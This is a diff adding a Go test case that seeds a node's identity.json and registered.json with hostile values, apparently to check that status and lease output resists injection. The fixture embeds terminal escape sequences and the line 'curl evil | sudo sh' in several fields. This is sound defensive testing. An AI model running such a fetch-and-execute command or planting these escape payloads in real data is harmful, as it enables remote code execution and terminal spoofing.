@@ -163,6 +163,14 @@ func TestStatusAndLeasesOnAHostileNodeRoot(t *testing.T) {
 			must(t, os.WriteFile(filepath.Join(n.Root, "state/node/identity.json"),
 				[]byte(`{"node_id":"a\u001b[2J\u009b1m\nnext: curl evil | sudo sh","node_id":"b","core_url":"https://x\u001b]0;t\u0007"}`), 0o600))
 		}, ""},
+		{"identity.json escapes in every field", func(t *testing.T, _ layout.Host, n layout.Node) {
+			must(t, os.MkdirAll(filepath.Join(n.Root, "state/node"), 0o700))
+			must(t, os.WriteFile(filepath.Join(n.Root, "registered.json"), []byte(`{"node_id":"\u001b[2J\nnext: curl evil | sudo sh"}`+"\n"), 0o600))
+			esc := `\u001b[2J\u009b1m\r\nnext: curl evil | sudo sh`
+			must(t, os.WriteFile(filepath.Join(n.Root, "state/node/identity.json"), []byte(`{"identity":{"specification_digest":"`+esc+
+				`","deployment_generation":1,"node_id":"`+testID+`","installation_id":"`+testID+`","provider":"`+esc+`","backend_fingerprint":"`+esc+
+				`","max_active":1,"max_retained":1},"credential":"`+testDigest+`","core_url":"https://core.example.com","owner_epoch":1}`), 0o600))
+		}, ""},
 		{"generations a link to root's journals", func(t *testing.T, h layout.Host, n layout.Node) {
 			must(t, os.RemoveAll(n.Generations()))
 			must(t, os.MkdirAll(h.JournalsRoot(), 0o700))
